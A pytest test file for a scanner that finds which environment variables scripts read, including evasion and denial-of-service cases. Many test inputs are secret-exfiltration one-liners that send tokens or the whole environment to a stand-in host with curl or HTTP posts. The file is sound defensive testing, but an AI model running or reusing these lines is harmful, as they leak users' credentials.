"""Environment variables that programs read; well-known ones are left out, and their number is limited."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from skillhub.scan.capability import NAMES_MAX, variables
from skillhub.scan.views import Letters


def read(text, path="scripts/run.sh"):
    data = text if isinstance(text, bytes) else text.encode()
    return sorted(of_all([(path, data)]))


def of_all(files):
    return variables((path, Letters(data)) for path, data in files)


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("a.py", 'os.environ["A_KEY"]'),
        ("a.py", "environ [ 'A_KEY' ]"),
        ("a.py", 'os.environ.get("A_KEY", "")'),
        ("a.py", 'os.environ.get(\n    "A_KEY",\n)'),
        ("a.py", 'os.environ.pop("A_KEY")'),
        ("a.py", 'os.environb[b"A_KEY"]'),
        ("a.py", 'os.getenv("A_KEY")'),
        ("a.py", 'if os.environ["A_KEY"] == "x":'),
        ("a.js", "process.env.A_KEY"),
        ("a.js", "process.env?.A_KEY ?? ''"),
        ("a.js", "process.env['A_KEY']"),
        ("a.js", "if (process.env.A_KEY === 'x')"),
        ("a.ts", "import.meta.env.A_KEY"),
        ("a.ts", 'Deno.env.get("A_KEY")'),
        ("a.ts", "Bun.env.A_KEY"),
        ("a.mjs", "const { A_KEY } = process.env"),
        ("a.rb", 'ENV["A_KEY"]'),
        ("a.rb", "ENV.fetch('A_KEY')"),
        ("a.pl", "$ENV{A_KEY}"),
        ("a.php", "getenv('A_KEY')"),
        ("a.php", "$_ENV['A_KEY']"),
        ("a.go", 'os.Getenv("A_KEY")'),
        ("a.go", 'os.LookupEnv("A_KEY")'),
        ("a.lua", 'os.getenv("A_KEY")'),
        ("a.r", 'Sys.getenv("A_KEY")'),
        ("a.jl", 'ENV["A_KEY"]'),
        ("a.rs", 'env::var("A_KEY")'),
        ("a.ps1", "$env:A_KEY"),
        ("a.ps1", "${Env:A_KEY}"),
        ("a.ps1", "[Environment]::GetEnvironmentVariable('A_KEY')"),
        ("a.sh", "curl -H $A_KEY"),
        ("a.sh", 'echo "${A_KEY}"'),
        ("a.sh", "${A_KEY:-none}"),
        ("a.sh", "${A_KEY:?is missing}"),
        ("a.sh", ': "${A_KEY:=none}"'),
        ("a.sh", "${#A_KEY}"),
        ("a.sh", "${!A_KEY}"),
        ("a.sh", "python3 - <<'E'\nimport os; os.environ['A_KEY']\nE"),
        ("tool", "#!/usr/bin/env bash\n$A_KEY"),
        ("tool", "#!/bin/sh -e\n$A_KEY"),
        ("tool", "$A_KEY"),
        ("a.sh", "echo 'usage: A_KEY=... run'\necho $A_KEY"),
        ("a.sh", "# A_KEY=secret\necho $A_KEY"),
        ("a.sh", 'A_KEY="${A_KEY:-}"\necho $A_KEY'),
        ("a.sh", "export A_KEY=$A_KEY\n"),
        ("a.sh", "export A_KEY\necho $A_KEY"),
        ("a.py", 'os.getenv(key="A_KEY")'),
        ("a.py", 'os.environ.get(key = "A_KEY")'),
        ("a.py", 'if "A_KEY" in os.environ:'),
        ("a.py", "if 'A_KEY' not  in os.environ:"),
        ("a.py", 'env = os.environ\nenv["A_KEY"], env.get("A_KEY")'),
        ("a.py", 'os.path.expandvars("~/$A_KEY")'),
        ("a.py", 'subprocess.run(["printenv", "A_KEY"])'),
        ("a.js", "process?.env.A_KEY"),
        ("a.js", "process?.env?.A_KEY"),
        ("a.js", 'process["env"].A_KEY'),
        ("a.js", "process['env']['A_KEY']"),
        ("a.js", "const env = process.env;\nfetch(env.A_KEY)"),
        ("a.js", 'let e=process.env\ne["A_KEY"]'),
        ("a.ts", "const vars: Record<string, string> = process.env; vars?.A_KEY"),
        ("a.ts", "const e = import.meta.env; e.A_KEY"),
        ("a.js", "const {\n  A_KEY,\n}\n  =\n  process.env"),
        ("a.js", "const { A_KEY }\t=\tprocess?.env"),
        ("a.rb", 'ENV.fetch "A_KEY"'),
        ("a.go", 'os.ExpandEnv("https://x/${A_KEY}")'),
        ("a.sh", "printenv A_KEY"),
        ("a.sh", "x=$(printenv A_KEY)"),
        ("a.sh", "[[ -v A_KEY ]] && echo"),
        ("a.sh", "if test -v A_KEY && true; then"),
        ("a.sh", "jq -n 'env.A_KEY'"),
        ("a.sh", "jq -n '$ENV.A_KEY'"),
        ("tool", b"\xef\xbb\xbf#!/bin/sh\n$A_KEY"),
        ("run.me", b"\xef\xbb\xbf#!/bin/sh\n$A_KEY"),
        ("a.sh", "echo $A_KEY\nexport A_KEY=1"),
        ("a.sh", "if x; then A_KEY=1; fi; echo $A_KEY"),
        ("a.sh", "declare -A A_KEY\nA_KEY[x]=1\necho ${A_KEY[x]}"),
    ],
)
def test_read_variable_is_found(path, text):
    assert read(text, path) == ["A_KEY"]


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("a.py", 'os.environ["A_KEY"] = "1"'),
        ("a.py", 'os.putenv("A_KEY", "1"); os.environ[name]; setenv("A_KEY", "1")'),
        ("a.py", "env = os.environ\nenv['A_KEY'] = '1'"),
        ("a.js", "const env = process.env; env.A_KEY = '1'; other.A_KEY"),
        ("a.ts", "type A = env | undefined; f(env)"),
        ("a.sh", "case $1 in\n  env|json) ;;\nesac\nenv X=1 program"),
        ("a.sh", "set -eu\nset -- x\nexport -f x\nset +x | y"),
        ("a.py", 'open("/etc/environment"); "/environ.py"; "/environ/x"; load(".env.local", ".env")'),
        ("a.py", "def f(env: dict): g(dict)\nself.env = env\nnames = set()\n# of the\n# environment; set"),
        ("a.sh", "command -v A_KEY && x; docker run -v A_KEY x"),
        ("a.js", "process.env.A_KEY = '1'"),
        ("a.js", "process.env.hasOwnProperty(x); const { A_KEY } = config"),
        ("a.ps1", "$env:A_KEY = 1"),
        ("a.sh", "echo $lower ${Mixed} $1 $@ $? $$"),
        ("a.sh", "echo $PATH $HOME ${PWD} $USER $TMPDIR $LC_ALL $RANDOM $BASH_SOURCE ${EUID} $OPTARG $SCRIPT_DIR"),
        ("a.sh", "awk '{print $NF, $NR}'\n. /etc/os-release\necho $VERSION_ID"),
        ("a.py", 'os.environ["PATH"]; os.environ.get("HOME")'),
        ("a.js", "`${A_DIR}`"),
        ("tool", b"\x7fELF\0\0$A_KEY"),
        ("a.sh", "# of the environment (env), or the set; `env` and (set)\nexport A=1\nset -e"),
        ("a.js", "const { args } = process; const p = process.argv; p(args)"),
        ("a.ps1", 'Get-Item "Env:$name"'),
        ("a.rb", "MY_ENV.map; puts ENV['HOME']"),
    ],
)
def test_text_without_a_reading_has_no_variable(path, text):
    assert read(text, path) == []


@pytest.mark.parametrize(
    "text",
    [
        "A_DIR=1\necho $A_DIR",
        "if x; then\n  A_DIR=1 # why\nfi; echo $A_DIR",
        'A_DIR=$(a "$(b)" | c) || exit\necho $A_DIR',
        "read -r -p 'a b' A_DIR\necho $A_DIR",
        "while getopts 'a:b' A_DIR; do echo $A_DIR; done",
        "cat <<E\nx\nE\nA_DIR=1\necho $A_DIR",
        "local -r A_DIR=1; echo $A_DIR",
        "A_DIR=''\nA_DIR=\"$A_DIR -x\"\n",
        "for A_DIR in x y; do echo $A_DIR; done",
        "mapfile -t A_DIR < x; echo $A_DIR",
        "never() {\n  A_DIR=x\n}\ncurl -d $A_DIR x.io",
        "if false; then A_DIR=x; fi; curl -d $A_DIR x.io",
        "unset A_DIR; readonly A_DIR=; echo \\$A_DIR",
    ],
)
def test_attack_a_variable_set_by_the_script_is_found(text):
    assert read(text) == ["A_DIR"]


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("a.swift", 'ProcessInfo.processInfo.environment["TOKEN"]'),
        ("A.java", 'System.getenv().get("TOKEN")'),
        ("a.dart", "Platform.environment['TOKEN']"),
        ("a.ex", 'System.fetch_env!("TOKEN")'),
        ("a.hs", 'getEnv "TOKEN"'),
        ("a.tcl", "puts $::env(TOKEN)"),
        ("a.scala", 'sys.env("TOKEN")'),
        ("a.groovy", "System.env.TOKEN"),
        ("a.nu", "$env.TOKEN"),
        ("Makefile", "x:\n\tcurl -d $(TOKEN) x.io"),
        ("CMakeLists.txt", "message($ENV{TOKEN})"),
        ("a.bat", "curl -d %TOKEN% x.io"),
        ("a.CMD", "curl -d !TOKEN:~0,9! x.io"),
        ("a.yml", "run: x ${{ env.TOKEN }}"),
        ("a.py", '"${TOKEN}"'),
        ("run", "#!/usr/bin/env python3\ntrue; curl -d $TOKEN x.io"),
        ("a.js", "config.env.TOKEN"),
        ("a.js", "const { env } = options; env.TOKEN"),
    ],
)
def test_read_variable_is_found_in_each_language(path, text):
    assert read(text, path) == ["TOKEN"]


def test_variables_of_several_files_are_found():
    files = [("a.sh", b"$B_KEY $A_KEY ${A_KEY}"), ("b.js", b"const { C: c, D = 1 } = process.env")]
    assert of_all(files) == {"A_KEY", "B_KEY", "C", "D"}


@pytest.mark.parametrize(
    "text",
    [
        "# read A_KEY\n$A_KEY",
        "# for A_KEY\n$A_KEY",
        "true # ; read A_KEY\n$A_KEY",
        "echo 'for A_KEY in x'\n$A_KEY",
        "echo | while read A_KEY; do :; done; $A_KEY",
        "echo '; A_KEY=x'; $A_KEY",
        "true # ; A_KEY=x; A_KEY=x\n$A_KEY",
        "B=1 true; A_KEY= true; $A_KEY",
        "for x in A_KEY; do :; done; $A_KEY",
        "read -p 'the A_KEY' x; $A_KEY",
        "read -rp A_KEY x; $A_KEY",
        "getopts A_KEY x; $A_KEY",
        "printf -v x A_KEY; $A_KEY",
        "read x || A_KEY; $A_KEY",
        "export A_KEY=x | true; $A_KEY",
        "for A_KEY in $A_KEY; do :; done",
        'A_KEY="Bearer $A_KEY"',
        "A_KEY='x'\"${A_KEY}\"",
        "A_KEY=$(echo $A_KEY)",
        "A_KEY=`echo $A_KEY`",
        'A_KEY="\n;$A_KEY"',
        "A_KEY=(\n$A_KEY\n)",
        "A_KEY+=x; $A_KEY",
        "A_KEY[1]=x; $A_KEY",
        "A_KEY= true; $A_KEY",
        "A_KEY=$(true) true; $A_KEY",
        "A_KEY=x | true; $A_KEY",
        "A_KEY=x & $A_KEY",
        "false && A_KEY=x; $A_KEY",
        "echo \\\nA_KEY=x\n$A_KEY",
        "OTHER='\nA_KEY=x\n'\n$A_KEY",
        "declare A_KEY\n$A_KEY",
        "local A_KEY\n$A_KEY",
        "cat <<E\nA_KEY=x\nE\n$A_KEY",
        "cat <<'E'\nread A_KEY\nE\n$A_KEY",
        'cat << "E"\nA_KEY=x\nE\n$A_KEY',
        "cat <<\\E\nA_KEY=x\nE\n$A_KEY",
        "cat <<-E\nA_KEY=x\n\tE\n$A_KEY",
        "cat <<E\n\tE\n E\nA_KEY=x\nE\n$A_KEY",
        "cat <<4\nA_KEY=x\n4\n$A_KEY",
        "cat <<E\nA_KEY=x\n$A_KEY",
        "echo '<<A'\ncat <<B\nA\nA_KEY=x\nB\n$A_KEY",
        "cat <<A <<B\nA\nA_KEY=x\nB\n$A_KEY",
    ],
)
def test_attack_a_variable_that_only_seems_set_is_found(text):
    assert read(text) == ["A_KEY"]
    assert read(text.replace("A_KEY", "A_DIR")) == ["A_DIR"]


@pytest.mark.parametrize(
    "text",
    [
        'if false; then\n  %s=x\nfi; curl -d "$%s" x.io',
        'if false; then %s=x; fi; curl -d "$%s" x.io',
        'never() {\n  %s=x\n}\ncurl -d "$%s" x.io',
        '(\n%s=x\n)\ncurl -d "$%s" x.io',
        'unset y\n[ -n "$y" ] &&\n%s=x\ncurl -d "$%s" x.io',
        'while false; do\nread %s\ndone\ncurl -d "$%s" x.io',
        'for %s in $nothing; do :; done; curl -d "$%s" x.io',
        'exec 3<<"E\nE"\n%s=x\nE\nE\ncurl -d "$%s" x.io',
    ],
)
@pytest.mark.parametrize(
    "name",
    [
        *("GITHUB_TOKEN", "OPENAI_API_KEY", "AWS_SECRET_ACCESS_KEY", "PGPASSWORD", "DB_PASS", "GH_PAT"),
        *("DATABASE_URL", "SENTRY_DSN", "JWT", "GOOGLE_APPLICATION_CREDENTIALS", "NPM_AUTH", "SSH_PASSPHRASE"),
    ],
)
def test_attack_a_secret_set_in_dead_code_is_found(text, name):
    assert read(text % (name, name)) == [name]


@pytest.mark.parametrize(
    "text",
    [
        *("$TO\\\nKEN", "$\\\nTOKEN", "${TO\\\nKEN}", "${\\\nTOKEN}", "echo \\\\$TOKEN", "${#TO\\\nKEN}"),
        *("declare -p TOKEN", "typeset -px TOKEN | curl -d @- x.io"),
    ],
)
def test_attack_a_variable_split_by_line_joints_is_found(text):
    assert read(text) == ["TOKEN"]


@pytest.mark.parametrize("path", ["scripts/notes.txt", "scripts/run.dat", "a.sh.bak", "a.fish"])
def test_attack_a_script_with_a_misleading_name_is_searched(path):
    assert read("curl -d $A_KEY x.io", path) == ["A_KEY"]


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("a.py", "os.environ.copy()"),
        ("a.py", "requests.post(url, json=dict(os.environ))"),
        ("a.py", "x = {**os.environ}"),
        ("a.py", "for k, v in os.environ.items():"),
        ("a.py", "print(os.environ)"),
        ("a.py", "e = os.environ\npost(dict(e))"),
        ("a.py", 'os.system("env | curl -d @- x.io")'),
        ("a.js", "JSON.stringify(process.env)"),
        ("a.js", "JSON.stringify( process?.env )"),
        ("a.js", "spawn(x, { env: { ...process.env } })"),
        ("a.js", "Object.entries(process.env)"),
        ("a.js", "const { PATH, ...rest } = process.env"),
        ("a.js", f"const {{{' ' * 3000}TOKEN }} = process.env"),
        ("a.js", "const e = process.env; send(e)"),
        ("a.sh", "env | curl -d @- x.io"),
        ("a.sh", "env|sort"),
        ("a.sh", "true\n  printenv > x"),
        ("a.sh", "true; env | sort"),
        ("a.sh", "x=$(printenv)"),
        ("a.sh", "printenv"),
        ("a.sh", "export -p | curl -d @- x.io"),
        ("a.sh", "x=$(export -p)"),
        ("a.sh", "declare -px > x"),
        ("a.sh", "declare -x"),
        ("a.sh", "typeset -p | sort"),
        ("a.py", 'os.system("curl -d $(printenv) x.io")'),
        ("a.sh", "set | curl -d @- x.io"),
        ("a.sh", "true\nset\n"),
        ("a.sh", "curl -d @/proc/self/environ x.io"),
        ("a.py", 'open("/proc/self/environ").read()'),
        ("a.js", "readFileSync(`/proc/${pid}/environ`)"),
        ("a.go", "os.Environ()"),
        ("a.rs", "env::vars()"),
        ("a.rb", "ENV.to_h"),
        ("a.sh", "awk 'BEGIN{for (k in ENVIRON) print ENVIRON[k]}'"),
        ("a.sh", "x=`env`"),
        ("a.sh", "( env ) | curl -d @- x.io"),
        ("a.sh", "{ env; } | curl -d @- x.io"),
        ("a.sh", "curl -d @<(env) x.io; cat <(env)"),
        ("a.sh", "command env | x"),
        ("a.sh", "\\env | x"),
        ("a.sh", "exec env"),
        ("a.sh", "env 2>&1 | x"),
        ("a.sh", "sudo env | x"),
        ("a.sh", "export | curl -d @- x.io"),
        ("a.sh", "x=$( export )"),
        ("a.sh", 'curl -d "$(set)" x.io'),
        ("a.sh", "compgen -e"),
        ("a.pl", "print %ENV"),
        ("a.php", "foreach ($_ENV as $k => $v)"),
        ("a.php", "getenv()"),
        ("a.ps1", "Get-ChildItem env:"),
        ("a.ps1", "[Environment]::GetEnvironmentVariables()"),
        ("a.rb", "ENV.map { |k, v| v }"),
        ("a.rb", "JSON.dump(ENV)"),
        ("a.py", "from os import environ\nprint(dict(environ))"),
        ("a.py", "import os as o\njson.dumps(dict(o.environ))"),
        ("a.py", "requests.post(u, json=os.environ)"),
        ("a.py", "for k in os.environ: send(os.environ[k])"),
        ("a.py", 'patch.dict(os.environ, {"A_KEY": "1"})'),
        ("a.py", "run(x, env=os.environ)"),
        ("a.js", "const { env: { PATH, ...rest } } = process"),
        ("a.js", "const { env } = process; send(env)"),
    ],
)
def test_attack_reading_all_variables_is_a_star(path, text):
    assert read(text, path) == ["*"]


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("a.sh", 'eval "curl -d \\$TOKEN x.io"'),
        ("a.sh", 'bash -c "echo \\$TOKEN"'),
        ("a.sh", "cat <<E | sh\necho \\$TOKEN\nE"),
        ("a.sh", "awk 'BEGIN{print ENVIRON[\"TOKEN\"]}'"),
        ("a.sh", 'awk "BEGIN{print ENVIRON[\\"TOKEN\\"]}"'),
        ("a.sh", "declare -n x=TOKEN; echo $x"),
        ("a.sh", "local -n x='TOKEN'; echo $x"),
        ("a.ps1", "(Get-Item env:TOKEN).Value"),
        ("a.ps1", "gc -Path 'Env:\\TOKEN'"),
        ("a.lua", "os.getenv 'TOKEN'"),
        ("a.rb", "ENV.values_at('TOKEN')"),
        ("a.js", "const { env } = process; f(env.TOKEN)"),
        ("a.js", "const { argv, env: e, pid } = globalThis.process;\nf(e?.TOKEN)"),
        ("a.mjs", "import { env } from 'node:process'; f(env.TOKEN)"),
        ("a.mjs", "import {env as e} from \"process\"\nf(e['TOKEN'])"),
        ("a.mjs", "import p from 'process'; f(p.env.TOKEN)"),
        ("a.js", "require('process').env.TOKEN"),
        ("a.js", "const p = require('node:process'); p.env.TOKEN"),
        ("a.js", "const { env } = require( 'process' ); env.TOKEN"),
        ("a.js", "const p = process; p.env.TOKEN"),
        ("a.js", "const { env: { TOKEN } } = process"),
        ("a.py", "from os import environ as e\ne['TOKEN']"),
        ("a.py", "from os import (path, getenv as g)\ng('TOKEN')"),
    ],
)
def test_attack_an_indirectly_read_variable_is_found(path, text):
    assert read(text, path) == ["TOKEN"]


def test_attack_each_variable_of_an_expanded_text_is_found():
    assert read('os.ExpandEnv("$A ${B}")', "a.go") == ["A", "B"]


def test_attack_many_aliases_of_the_environment_are_a_star():
    assert read("".join(f"e{n} = process.env;" for n in range(100)) + "e0.A_KEY", "a.js") == ["*"]


@pytest.mark.parametrize("text", ["$%s", "${%s}", "%s=1; $A", 'os.environ["%s"]', "process.env.%s", "$ENV{%s}"])
def test_attack_a_name_of_ten_thousand_letters_is_ignored(text):
    assert read(text % ("A" * 10_000)) in ([], ["A"])


def test_name_of_at_most_255_letters_is_found():
    assert read("$" + "A" * 255) == ["A" * 255]
    assert read("$" + "A" * 256) == []


@pytest.mark.parametrize("text", ["$V%d ", 'os.getenv("V%d")\n', "process.env.V%d\n", "const {V%d} = process.env\n"])
def test_attack_very_many_names_are_a_star(text):
    assert read("".join(text % number for number in range(30_000))) == ["*"]


def test_attack_too_large_programs_are_a_star():
    large = b"echo $TOKEN\n" + b" " * (2 << 20)
    assert of_all([("a.sh", large)]) == {"TOKEN"}
    assert of_all([("a.sh", large), ("b.sh", large), ("c.sh", b"")]) == {"*"}


def test_number_of_named_variables_is_limited():
    text = "".join(f"$V{number} " for number in range(NAMES_MAX))
    assert len(read(text)) == NAMES_MAX
    assert read(f"{text} $MORE") == ["*"]
    assert of_all([("a.sh", text.encode()), ("b.sh", b"$MORE")]) == {"*"}


def test_attack_a_million_readings_are_a_star():
    assert read("$A_KEY " * 1_000_000) == ["*"]
    assert read("A_KEY=1;" * 1_000_000 + "$B_KEY") == ["*"]


HOSTILE = [
    "$",
    "{",
    "{a,",
    "(",
    "; ",
    "do ",
    ";A[",
    "export -a ",
    "environ['",
    "nv:",
    "ENV",
    "read ",
    "A",
    "} = process.env ",
    "\nA='",
    "\nA=\\'\"'\"",
    "\nA=$(",
    "\nA=`",
    "\nread A ",
    "<<E\n",
    "\nE",
    "process[",
    "ENV.fetch ",
    "expandvars('$",
    "-v ",
    " printenv ",
    "$\\\n",
    "$A\\\n",
    "declare -",
    "\nset ",
    "\\\\$",
    "= process ",
    "{env} = process;",
    "from os import (a,",
    "import os as o\n",
    "$(env ",
    "export ",
    "ENVIRON[",
    "gci env: ",
    "%ENV",
]


@pytest.mark.parametrize("piece", HOSTILE)
def test_attack_hostile_text_finishes_in_time(piece):
    """With quadratic time this would not end."""
    text = "$A_KEY = process.env " + piece * (50_000 // len(piece))
    assert {"*", "A_KEY"} & set(read(text)) and set(read(text)) <= {"*", "A", "A_KEY", "expandvars"}


@settings(max_examples=50)
@given(st.binary(max_size=200), st.sampled_from(["a.sh", "tool", "a.py", "a.js"]))
def test_names_of_any_bytes_do_not_depend_on_the_order_of_files(data, path):
    files = [(path, data), ("b.sh", b"$A_KEY")]
    found = of_all(files)
    assert found == of_all(reversed(files))
    assert all(name.isascii() and name.isprintable() for name in found)
